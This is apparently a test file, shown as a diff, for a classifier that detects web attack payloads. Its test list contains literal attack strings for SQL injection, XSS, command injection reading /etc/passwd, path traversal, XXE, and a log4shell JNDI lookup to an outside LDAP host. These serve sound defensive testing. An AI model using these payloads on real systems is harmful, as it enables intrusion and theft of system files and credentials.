@@ -1,0 +1,125 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold such text literally.
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { SentinelError } from "../../../../shared/errors.ts";
+import { places } from "../../../../shared/payload.ts";
+import { createCachedClassifier } from "./cached-classifier.ts";
+import { checkValue, faultsOf, hardValues } from "./classifier-conformance.ts";
+import { loadClassifier } from "./payload-model.ts";
+import { createRuleClassifier } from "./rules.ts";
+
+const bytes = readFileSync(join(import.meta.dirname, "../../../../resources/model/payload.bin"));
+const model = loadClassifier(bytes);
+const classifiers = [
+  { name: "model", classifier: model },
+  { name: "rules", classifier: createRuleClassifier() },
+  { name: "cached rules", classifier: createCachedClassifier(createRuleClassifier(), { longest: 100 }) },
+];
+
+describe.each(classifiers)("$name keeps what a payload classifier promises", ({ classifier }) => {
+  test.each(hardValues)(
+    "$why",
+    (value) => {
+      // Fifty times the budget: the machine may be busy; what must not happen is growth beyond linear.
+      expect(checkValue(classifier, { ...value, withinMs: value.withinMs * 50 })).toEqual([]);
+    },
+    60_000,
+  );
+
+  test("any text in any place", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: "binary", maxLength: 600 }), fc.constantFrom(...places), (text, place) => {
+        expect(faultsOf(classifier.classify(text, { place, name: "x" }), text)).toEqual([]);
+      }),
+      { numRuns: 25 * Number(process.env.TORTURE ?? 1), seed: 7 },
+    );
+  }, 60_000);
+});
+
+const must = [
+  { text: "1' union select null,version()-- -", class: "sql_injection", family: null },
+  { text: '{"$ne": null}', class: "sql_injection", family: "nosql_injection" },
+  { text: '"><svg onload=alert(1)>', class: "xss", family: null },
+  { text: "127.0.0.1; cat /etc/passwd", class: "command_injection", family: null },
+  { text: "../../../../etc/passwd", class: "path_traversal", family: null },
+  { text: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', class: "xxe", family: null },
+  { text: "${jndi:ldap://198.51.100.7/a}", class: "command_injection", family: "log4shell" },
+];
+
+describe.each(classifiers)("$name", ({ classifier }) => {
+  test.each(must)("flags $text", ({ text, class: name, family }) => {
+    const plain = classifier.classify(text, { place: "query", name: "q" });
+    expect(plain).toMatchObject({ class: name, family });
+    expect(plain.confidence).toBeGreaterThan(0.8);
+    expect(plain.spans.length).toBeGreaterThan(0);
+    const encoded = encodeURIComponent(text);
+    const output = classifier.classify(encoded, { place: "query", name: "q" });
+    expect(output.class).toBe(name);
+    expect(faultsOf(output, encoded)).toEqual([]);
+  });
+
+  test.each([
+    "Maria O'Neill",
+    "rock 'n' roll",
+    "https://example.com/path?q=1&lang=en",
+    "Please select a seat from the list and update your order.",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+    "550e8400-e29b-41d4-a716-446655440000",
+    "<p>Hello <strong>world</strong></p>",
+    "東京都渋谷区",
+    "",
+  ])("does not flag %s", (text) => {
+    expect(classifier.score(text, { place: "form", name: "text" }).class).toBe("benign");
+  });
+});
+
+test("an attack within 128 KB of prose is found, and the spans point at it", () => {
+  const prose = "The quick brown fox jumps over the lazy dog and runs away. ".repeat(1100);
+  const attack = "1' union select username,password from users-- -";
+  const output = model.classify(prose + attack + prose, { place: "form", name: "text" });
+  expect(output.class).toBe("sql_injection");
+  expect(output.spans[0]!.start).toBeGreaterThanOrEqual(prose.length - 10);
+  expect(output.spans[0]!.end).toBeLessThanOrEqual(prose.length + attack.length + 10);
+});
+
+test("spans of an encoded attack are offsets in the value as given", () => {
+  const text = "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
+  const [span] = model.classify(text).spans;
+  expect(text.slice(span!.start, span!.end)).toContain("script");
+});
+
+test("the cache answers again without asking, counts, and forgets the oldest", () => {
+  const asked: string[] = [];
+  const looked: string[] = [];
+  const counting = {
+    ...model,
+    score: (text: string) => {
+      asked.push(text);
+      return model.score(text);
+    },
+  };
+  const cached = createCachedClassifier(counting, { entries: 2, onLookup: (status) => looked.push(status) });
+  expect(cached.score("a")).toBe(cached.score("a"));
+  cached.score("b");
+  cached.score("c");
+  cached.score("a");
+  expect(asked).toEqual(["a", "b", "c", "a"]);
+  expect(looked).toEqual(["miss", "hit", "miss", "miss", "miss"]);
+});
+
+test.each([
+  { why: "another file", damage: () => Buffer.from("not a model") },
+  { why: "a cut file", damage: () => bytes.subarray(0, bytes.length - 1) },
+  { why: "one flipped bit", damage: () => flip(bytes, bytes.length - 1000) },
+  { why: "a changed header", damage: () => flip(bytes, 14) },
+])("refuses $why", ({ damage }) => {
+  expect(() => loadClassifier(damage())).toThrowError(SentinelError);
+});
+
+function flip(original: Buffer, at: number): Buffer {
+  const copy = Buffer.from(original);
+  copy[at] = copy[at]! ^ 1;
+  return copy;
+}
